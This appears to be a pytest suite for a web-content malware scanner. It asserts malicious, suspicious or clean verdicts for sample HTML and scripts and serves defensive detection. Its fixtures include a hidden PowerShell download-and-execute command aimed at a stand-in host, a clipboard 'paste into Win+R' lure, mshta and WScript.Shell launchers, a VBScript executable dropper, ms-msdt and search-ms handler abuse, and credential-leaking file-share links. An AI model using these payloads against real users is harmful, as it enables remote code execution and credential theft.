from __future__ import annotations

import pytest

from app.engine.model import Verdict
from app.engine.scan import Engine

from .containers import EICAR, places
from .pages import CONTENT, PHISH, b64, page, script

POWER = "power" + "shell -w hidden -c iwr https://landing.example.net/a | iex"
KEYS = "<p>Verify you are human: press <b>Win</b> + <b>R</b>, then <b>Ctrl</b> + <b>V</b> and Enter.</p>"


def verdict(engine: Engine, content: bytes) -> Verdict:
    return engine.scan(content, name="a.html").verdict


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            page("", "<meta http-equiv='refresh' content='0; url=https://landing.example.net/x#eva@firma.example'>"),
            Verdict.MALICIOUS,
        ),
        (script("window.location.replace('https://landing.example.net/?e=eva%40firma.example')"), Verdict.MALICIOUS),
        (script("location = 'https://landing.example.net/x'"), Verdict.SUSPICIOUS),
        (script("window.location.href='https://landing.example.net/x'"), Verdict.SUSPICIOUS),
        (page("", "<meta http-equiv=Refresh content='1;URL=https://landing.example.net/'>"), Verdict.SUSPICIOUS),
        (page("", "<meta http-equiv='refresh' content='0; url=next.html'>"), Verdict.CLEAN),
        (page("", "<meta http-equiv='refresh' content='600'>"), Verdict.CLEAN),
        (page(CONTENT + "<script>if(top!=self)top.location='https://www.shop.example.org/'</script>"), Verdict.CLEAN),
        (
            page(
                "<script>location='https://new.site.example.org/'</script>", "<base href='https://site.example.org/'>"
            ),
            Verdict.CLEAN,
        ),
        (script("var state={location:'https://landing.example.net/x'};my.location_of='//x.example/'"), Verdict.CLEAN),
    ],
)
def test_a_page_that_only_leads_away_is_judged_by_whom_it_tells(
    engine: Engine, content: bytes, expected: Verdict
) -> None:
    assert verdict(engine, content) is expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            page("<iframe src='https://landing.example.net/' style='position:fixed;width:100%;height:100%'>"),
            Verdict.SUSPICIOUS,
        ),
        (page("<iframe src='https://landing.example.net/?u=eva@firma.example' width=300>"), Verdict.SUSPICIOUS),
        (page(CONTENT + "<iframe src='https://video.example.net/embed/1' width='100%'></iframe>"), Verdict.CLEAN),
        (page("<iframe src='https://video.example.net/embed/1' width='560'></iframe>"), Verdict.CLEAN),
    ],
)
def test_a_page_that_is_a_window_onto_another_site_is_suspicious(
    engine: Engine, content: bytes, expected: Verdict
) -> None:
    assert verdict(engine, content) is expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (page(f"<iframe src='data:text/html;base64,{b64(PHISH)}'></iframe>"), Verdict.MALICIOUS),
        (page(f"<iframe src='data:text/html,{PHISH.replace(chr(39), '%27')}'></iframe>"), Verdict.MALICIOUS),
        (page(f"<object data='data:text/html;charset=utf-8;base64,{b64(PHISH)}'></object>"), Verdict.MALICIOUS),
        (page("<a href='data:text/html,<p>hello</p>'>x</a>"), Verdict.SUSPICIOUS),
        (page(CONTENT + "<a href='data:text/html,<p>hello</p>'>x</a>"), Verdict.CLEAN),
        (
            page(f"{CONTENT}<script src='data:text/javascript;base64,{b64('var a=1;start(a)')}'></script>"),
            Verdict.CLEAN,
        ),
        (page(f"<img src='data:image/png;base64,{b64(bytes(400))}'><a href='data:text/csv,a;b'>x</a>"), Verdict.CLEAN),
    ],
)
def test_a_page_within_an_address_is_judged_itself(engine: Engine, content: bytes, expected: Verdict) -> None:
    assert verdict(engine, content) is expected


def test_a_file_within_an_address_is_scanned(engine: Engine) -> None:
    report = engine.scan(
        page(f"<a download='a.bin' href='data:application/octet-stream;base64,{b64(EICAR)}'>x</a>"), name="a.html"
    )

    assert places(report)["yara.eicar"] == "a.html/data-1.bin"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            page(
                "<a href='javascript:void(0)'>x</a><a href='javascript:;'>y</a><a href='JavaScript:history.go()'>z</a>"
            ),
            Verdict.CLEAN,
        ),
        (page("<a href='java&#115;cript:eval(atob(\"YQ==\"))'>x</a>"), Verdict.SUSPICIOUS),
        (page("<a href=' java\nscript:document.write(unescape(name))'>x</a>"), Verdict.SUSPICIOUS),
        (
            page("<a href='search-ms:query=a&crumb=location:%5c%5c203.0.113.4%5cshare&displayname=Docs'>x</a>"),
            Verdict.MALICIOUS,
        ),
        (
            script("location.href='search-ms:displayname=a&crumb=location:\\\\\\\\files.example.net\\\\a'"),
            Verdict.MALICIOUS,
        ),
        (page("<a href='https://shop.example.org/search:a?crumb=1'>x</a>"), Verdict.CLEAN),
        (
            script("location.href = 'ms-" + 'msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=x"\''),
            Verdict.MALICIOUS,
        ),
        (page("<iframe src='ms-officecmd:{\"id\":3}'></iframe>"), Verdict.MALICIOUS),
        (page("<a href='ms-appinstaller:?source=https://landing.example.net/a.msix'>x</a>"), Verdict.SUSPICIOUS),
        (
            page(
                "<a href='ms-word:ofe|u|https://firma.sharepoint.com/a.docx'>x</a><a href='ms-settings:display'>y</a>"
            ),
            Verdict.CLEAN,
        ),
    ],
)
def test_an_address_that_starts_something_is_judged_by_what(engine: Engine, content: bytes, expected: Verdict) -> None:
    assert verdict(engine, content) is expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (page("<img src='file://203.0.113.4/a.png'>"), Verdict.MALICIOUS),
        (page("<img src='\\\\203.0.113.4\\a\\b.png'>"), Verdict.MALICIOUS),
        (page("<link rel='stylesheet' href='file://files.example.net@80/dav/a.css'>"), Verdict.MALICIOUS),
        (page("<img src='file://files.example.net/share/a.png'>"), Verdict.SUSPICIOUS),
        (page("<a href='file://files.example.net/share/a.lnk'>x</a>"), Verdict.SUSPICIOUS),
        (page("<img src='file:///C:/Users/eva/a.png'><link href='file:///home/eva/a.css'>"), Verdict.CLEAN),
        (
            page(
                "<img src='file://fileserver/marketing/logo.png'><a href='\\\\fs01.firma.local\\team\\plan.docx'>x</a>"
            ),
            Verdict.CLEAN,
        ),
        (page("<img src='//203.0.113.4/a.png'>"), Verdict.CLEAN),
    ],
)
def test_a_foreign_file_share_is_told_from_the_own_one(engine: Engine, content: bytes, expected: Verdict) -> None:
    assert verdict(engine, content) is expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (script(f"navigator.clipboard.writeText('{POWER}')", KEYS), Verdict.MALICIOUS),
        (script(f"var c=atob('{b64(POWER)}');navigator.clipboard.writeText(c)", KEYS), Verdict.MALICIOUS),
        (
            script("t.value='ms" + "hta https://landing.example.net/a.hta';document.execCommand('copy')", KEYS),
            Verdict.MALICIOUS,
        ),
        (script("navigator.clipboard.writeText(box.value)", KEYS), Verdict.SUSPICIOUS),
        (
            script("navigator.clipboard.writeText('curl -fsS https://get.example.org | sh')", "<h1>Install</h1>"),
            Verdict.CLEAN,
        ),
        (page(f"<p>Attackers tell people to press Win + R and run <code>{POWER}</code>.</p>"), Verdict.CLEAN),
    ],
)
def test_a_page_that_makes_its_reader_paste_a_command_is_malicious(
    engine: Engine, content: bytes, expected: Verdict
) -> None:
    assert verdict(engine, content) is expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (script("new ActiveX" + f"Object('WScript.Shell').Run('{POWER}')"), Verdict.MALICIOUS),
        (
            page("<script language='VBScript'>Set s=Create" + f'Object("WScript.Shell")\ns.Run "{POWER}"</script>'),
            Verdict.MALICIOUS,
        ),
        (
            page(
                "<!--[if IE]><script>new ActiveX" + "Object('Shell.Application').ShellExecute(a)</script><![endif]-->"
            ),
            Verdict.SUSPICIOUS,
        ),
        (
            page("<script language=VBScript>DropFile" + 'Name = "svchost.exe"\nWriteData = "4D5A' + '90"</script>'),
            Verdict.MALICIOUS,
        ),
        (page("<object classid='clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8'></object>"), Verdict.SUSPICIOUS),
        (page("<hta:application id='a' windowstate='minimize'>"), Verdict.SUSPICIOUS),
        (
            script("var r=window.XMLHttpRequest?new XMLHttpRequest:new ActiveXObject('Microsoft.XMLHTTP')"),
            Verdict.CLEAN,
        ),
        (
            page("<object classid='clsid:D27CDB6E-AE6D-11cf-96B8-444553540000'><param name='movie'></object>"),
            Verdict.CLEAN,
        ),
        (page("<!--[if mso]><v:rect><![endif]--><table><tr><td>Newsletter</td></tr></table>"), Verdict.CLEAN),
    ],
)
def test_a_page_that_starts_programs_of_the_system_is_found(engine: Engine, content: bytes, expected: Verdict) -> None:
    assert verdict(engine, content) is expected
